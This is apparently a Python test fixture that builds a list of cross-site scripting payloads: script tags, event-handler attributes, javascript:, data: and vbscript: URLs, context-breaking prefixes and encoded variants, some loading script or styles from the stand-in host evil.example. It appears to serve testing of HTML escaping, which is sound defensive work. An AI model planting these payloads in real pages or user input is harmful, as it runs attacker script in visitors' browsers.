"""Texts that would run something in a browser, or ask for something, if a page took them for markup."""

from __future__ import annotations

from hostile import HOSTILE

# What closes the place that a text stands in.
_BREAKS = (
    "", '">', "'>", "`>", "</p>", "</mark></p></article>", "</script>", "</style>", "</title>", "</svg>", "-->", "]]>",
    '" ', "' ", "</textarea>", "</template>", "</noscript>",
)  # fmt: skip
VECTORS = (
    "<script>fired()</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=fired()>",
    "<img src=https://evil.example/x.png>",
    "<svg onload=fired()>",
    "<svg><script>fired()</script></svg>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<iframe srcdoc='<script>parent.fired()</script>'></iframe>",
    "<body onload=fired()>",
    "<details open ontoggle=fired()><summary>25</summary></details>",
    "<input autofocus onfocus=fired()>",
    "<video src=x onerror=fired()></video>",
    "<object data='javascript:fired()'></object>",
    "<embed src='javascript:fired()'>",
    "<meta http-equiv=refresh content='0;url=javascript:fired()'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action='javascript:fired()'><button autofocus>25</button></form>",
    "<math><mtext><img src=x onerror=fired()></mtext></math>",
    "<SCRIPT>fired()</SCRIPT>",
    "<script\t>fired()</script\n>",
    "<script>fired()//",
    "<img/src=x/onerror=fired()>",
    "<img src=x onerror\n=\nfired()>",
    "<audio src=x onerror=fired()></audio>",
    "<svg><animate onbegin=fired() attributeName=x dur=1s></svg>",
    "<svg><a href='javascript:fired()'><text>25</text></a></svg>",
    "<table background='https://evil.example/x.png'><tr><td>25",
    "<div style='background:url(https://evil.example/x.png)'>25</div>",
    "<template><script>fired()</script></template><img src=x onerror=fired()>",
    "<a href='javascript:fired()' autofocus onfocus=fired()>25</a>",
    "&lt;script&gt;fired()&lt;/script&gt;",
    "\\u003cscript\\u003efired()\\u003c/script\\u003e",
    "onmouseover=fired() onfocus=fired() autofocus tabindex=1 style=position:fixed;inset:0 x=",
)
_ADDRESSES = (
    "javascript:fired()",
    " javascript:fired()",
    "JaVaScRiPt:fired()",
    "java\nscript:fired()",
    "\x01javascript:fired()",
    "data:text/html,<script>fired()</script>",
    "vbscript:fired()",
    "blob:https://evil.example/1",
    "//evil.example/x",
    'https://evil.example/" onmouseover="fired()',
)

PAYLOADS = [*(f"{before}{vector} 25" for before in _BREAKS for vector in VECTORS), *_ADDRESSES, *HOSTILE]
